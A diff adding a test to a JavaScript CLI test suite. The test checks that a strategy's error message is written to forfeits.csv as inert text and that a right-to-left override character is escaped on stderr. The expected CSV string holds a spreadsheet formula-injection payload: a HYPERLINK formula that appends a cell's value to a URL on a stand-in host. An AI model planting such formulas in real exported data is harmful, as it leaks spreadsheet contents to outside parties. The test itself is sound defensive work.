@@ -106,6 +106,19 @@ describe('what a strategy file throws or hands over', () => {
     });
   });
 
+  test('its words reach forfeits.csv as text a spreadsheet does not run, and stderr without marks that reorder them', async () => {
+    await inScratch(async (dir) => {
+      const spec = fixture('formula-thrower');
+      const run = await ended(['sim', '--strategies', `${spec},random`, ...SETTINGS, '-o', dir]);
+      assert.equal(run.code, 0, run.stderr);
+      const csv = readFileSync(join(dir, 'forfeits.csv'), 'utf8');
+      assert.ok(csv.includes(`,strategy-error,`), csv);
+      assert.ok(csv.includes(`"'=HYPERLINK(""https://example.invalid/?""&B2,""details"")\\u202e"\n`), csv);
+      assert.ok(!run.stderr.includes('\u202e'), 'the override is escaped on stderr');
+      assert.match(run.stderr, /details"\)\\u202e/);
+    });
+  });
+
   test("a seat of the file's own making, thrown from create, is never played: the command fails naming the file", async () => {
     await inScratch(async (dir) => {
       const spec = fixture('forged-seat');
